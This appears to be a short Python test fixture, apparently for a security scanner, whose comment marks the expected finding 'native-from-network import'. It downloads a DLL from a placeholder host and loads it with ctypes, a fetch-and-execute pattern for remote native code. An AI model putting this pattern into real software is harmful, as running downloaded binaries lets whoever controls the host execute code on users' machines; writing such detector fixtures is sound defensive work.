import ctypes
import urllib.request

urllib.request.urlretrieve("https://files.example.invalid/toy.dll", "toy.dll")
ctypes.CDLL("toy.dll")  # expect: source/native-from-network import conclusive
